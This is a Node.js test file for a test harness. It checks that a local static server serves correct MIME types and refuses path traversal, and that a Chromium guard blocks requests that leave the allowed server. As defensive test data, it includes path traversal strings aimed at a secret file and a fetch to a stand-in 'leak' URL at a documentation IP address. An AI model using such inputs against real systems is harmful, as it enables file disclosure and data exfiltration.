// The test harness itself: the static server serves the right types and
// nothing outside its root, and the Chromium launcher really catches (and
// blocks) a request that leaves the test's own server, so the browser tests'
// "no request left 127.0.0.1" can fail.
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { request } from "node:http";
import { mkdtempSync, mkdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { serve } from "../../scripts/server.mjs";
import { launch } from "./chromium.mjs";

let dir, server;

before(async () => {
  dir = mkdtempSync(join(tmpdir(), "sapan-serve-"));
  mkdirSync(join(dir, "site/sub"), { recursive: true });
  writeFileSync(join(dir, "secret.txt"), "SECRET");
  writeFileSync(join(dir, "site/index.html"), "<!doctype html><title>t</title><p>page</p>");
  writeFileSync(join(dir, "site/sub/m.js"), "export const x = 1;");
  writeFileSync(join(dir, "site/sub/m.wasm"), Buffer.from([0, 97, 115, 109, 1, 0, 0, 0]));
  server = await serve(join(dir, "site"), { headers: { "x-test": "yes" } });
});

after(async () => {
  await server?.close();
  rmSync(dir, { recursive: true, force: true });
});

/** A raw GET, path sent as written (fetch would resolve `..` before sending). */
function get(path) {
  return new Promise((ok, fail) => {
    const { port } = new URL(server.url);
    request({ host: "127.0.0.1", port, path }, (res) => {
      let body = "";
      res.on("data", (c) => (body += c));
      res.on("end", () => ok({ status: res.statusCode, type: res.headers["content-type"], headers: res.headers, body }));
    })
      .on("error", fail)
      .end();
  });
}

test("the server binds 127.0.0.1 and gives JavaScript, WebAssembly and HTML their MIME types", async () => {
  assert.match(server.url, /^http:\/\/127\.0\.0\.1:\d+$/);
  assert.equal((await get("/sub/m.wasm")).type, "application/wasm");
  assert.match((await get("/sub/m.js")).type, /^text\/javascript/);
  const index = await get("/");
  assert.match(index.type, /^text\/html/);
  assert.match(index.body, /<p>page<\/p>/);
  assert.equal(index.headers["x-test"], "yes");
});

test("the server refuses paths outside its root and says 404 for missing files", async () => {
  // `..` and `%2e%2e` are resolved by the URL parser (to /secret.txt, not
  // there: 404); an encoded slash survives it and must be caught (403).
  for (const path of ["/../secret.txt", "/%2e%2e/secret.txt", "/sub/..%2f..%2fsecret.txt", "/sub/..%2F..%2F..%2Fsecret.txt"]) {
    const res = await get(path);
    assert.ok([403, 404].includes(res.status), `${path}: ${res.status}`);
    assert.doesNotMatch(res.body, /SECRET/, path);
  }
  assert.equal((await get("/sub/..%2f..%2fsecret.txt")).status, 403);
  assert.equal((await get("/nope.js")).status, 404);
});

test("the Chromium guard records and blocks requests that leave the allowed server", async () => {
  const browser = await launch();
  const other = await serve(join(dir, "site"));
  try {
    browser.allow(server.url);
    const page = await browser.newPage();
    await page.goto(`${server.url}/`);
    const outcomes = await page.evaluate(
      (urls) => Promise.all(urls.map((u) => fetch(u).then(() => "sent", () => "blocked"))),
      ["/sub/m.js", "http://192.0.2.1/leak?text=%E0%B8%81", `${other.url}/sub/m.js`],
    );
    assert.deepEqual(outcomes, ["sent", "blocked", "blocked"]);
    assert.deepEqual(browser.offsite, ["http://192.0.2.1/leak?text=%E0%B8%81", `${other.url}/sub/m.js`]);
    assert.throws(() => browser.assertNoOffsite());
  } finally {
    await browser.close();
    await other.close();
  }
});
